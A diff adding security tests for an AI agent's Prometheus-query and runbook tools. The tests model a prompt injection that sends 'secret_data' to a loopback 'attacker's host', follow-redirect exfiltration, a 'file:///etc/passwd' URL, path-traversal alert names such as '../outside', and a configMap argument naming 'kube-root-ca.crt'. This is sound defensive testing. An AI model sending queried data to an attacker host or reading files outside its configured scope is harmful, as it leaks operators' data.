@@ -6,9 +6,12 @@ runs in tests/integration/test_tools.py.
 
 from __future__ import annotations
 
+import http.server
 import json
 import math
 import re
+import threading
+from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -624,10 +627,11 @@ def test_prometheus_run_builds_the_query(monkeypatch: pytest.MonkeyPatch) -> Non
 
     monkeypatch.setattr(prometheus_query, "fetch", fetch)
     monkeypatch.delenv(prometheus_query.URL_ENV, raising=False)
-    with pytest.raises(ToolError, match="no Prometheus URL"):
+    with pytest.raises(ToolError, match="no Prometheus URL configured"):
         prometheus_query.run({"query": "up"})
+    monkeypatch.setenv(prometheus_query.URL_ENV, "file:///etc/passwd")
     with pytest.raises(ToolError, match="http"):
-        prometheus_query.run({"query": "up", "url": "file:///etc/passwd"})
+        prometheus_query.run({"query": "up"})
     monkeypatch.setenv(prometheus_query.URL_ENV, "http://prom:9090/")
     out = prometheus_query.run({"query": "up", "range": "1h", "time": "1700000000"})
     assert seen[-1].startswith("http://prom:9090/api/v1/query_range?query=up&start=1699996400")
@@ -636,6 +640,69 @@ def test_prometheus_run_builds_the_query(monkeypatch: pytest.MonkeyPatch) -> Non
     assert "/api/v1/query?query=up&time=" in seen[-1]
     with pytest.raises(ToolError, match="11000 points"):
         prometheus_query.run({"query": "up", "range": "7d", "step": "1s"})
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """A loopback HTTP server: answers Prometheus JSON, or a redirect, and records paths."""
+
+    def do_GET(self) -> None:
+        server: Any = self.server
+        server.paths.append(self.path)
+        if server.redirect_to:
+            self.send_response(302)
+            self.send_header("Location", server.redirect_to + self.path)
+            self.end_headers()
+            return
+        body = json.dumps({"status": "success", "data": {"resultType": "vector", "result": []}})
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.end_headers()
+        self.wfile.write(body.encode())
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def http_servers() -> Iterator[list[Any]]:
+    """Two loopback servers: [0] plays the configured Prometheus, [1] the attacker's host."""
+    servers: list[Any] = []
+    for _ in range(2):
+        server: Any = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+        server.paths, server.redirect_to = [], ""
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        servers.append(server)
+    yield servers
+    for server in servers:
+        server.shutdown()
+        server.server_close()
+
+
+def _url(server: Any) -> str:
+    return f"http://127.0.0.1:{server.server_address[1]}"
+
+
+def test_prometheus_query_goes_only_to_the_configured_url(
+    monkeypatch: pytest.MonkeyPatch, http_servers: list[Any]
+) -> None:
+    """A prompt injection asks the read tool to send a query (data) to its own host: refused
+    before any request; the configured Prometheus gets the query, and a redirect from it is
+    not followed."""
+    prometheus, attacker = http_servers
+    monkeypatch.setenv(prometheus_query.URL_ENV, _url(prometheus))
+    with pytest.raises(ToolError, match=r"unknown arguments \['url'\]"):
+        prometheus_query.run({"query": "secret_data", "url": _url(attacker)})
+    assert prometheus.paths == [] and attacker.paths == []
+    assert "url" not in prometheus_query.ARGUMENTS
+
+    out = prometheus_query.run({"query": "up"})
+    assert out["resultType"] == "vector"
+    assert [p.split("?")[0] for p in prometheus.paths] == ["/api/v1/query"]
+
+    prometheus.redirect_to = _url(attacker)
+    with pytest.raises(ToolError, match=r"redirect \(HTTP 302\), which is not followed"):
+        prometheus_query.run({"query": "secret_data"})
+    assert attacker.paths == []
 
 
 # ---------------------------------------------------------------- runbook
@@ -700,6 +767,26 @@ def test_runbook_run_reads_the_directory(tmp_path: Path, monkeypatch: pytest.Mon
     monkeypatch.setattr(runbook, "REPO_RUNBOOKS", tmp_path / "missing")
     with pytest.raises(ToolError, match="no runbooks configured"):
         runbook.run({"alert": "HighLatency"})
+
+
+def test_runbook_sources_come_from_settings_only(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The model names an alert, never a source: no ConfigMap argument, and an alert that
+    looks like a path reads nothing outside the configured directory."""
+    books = tmp_path / "runbooks"
+    books.mkdir()
+    (books / "latency.md").write_text(BOOK)
+    (tmp_path / "outside.md").write_text("---\nalerts: [Outside]\n---\n## Diagnosis\nleak\n")
+    monkeypatch.setenv(runbook.DIR_ENV, str(books))
+    monkeypatch.delenv(runbook.CONFIGMAP_ENV, raising=False)
+    assert {"alert", "section"} == runbook.ARGUMENTS
+    with pytest.raises(ToolError, match=r"unknown arguments \['configMap'\]"):
+        runbook.run({"alert": "HighLatency", "configMap": "kube-root-ca.crt"})
+    for alert in ("../outside", "../outside.md", str(tmp_path / "outside"), "Outside"):
+        with pytest.raises(ToolError, match="no runbook for alert") as err:
+            runbook.run({"alert": alert})
+        assert "leak" not in str(err.value) and "Outside" not in str(err.value).split(";")[1]
 
 
 def test_the_shipped_runbooks_parse() -> None:
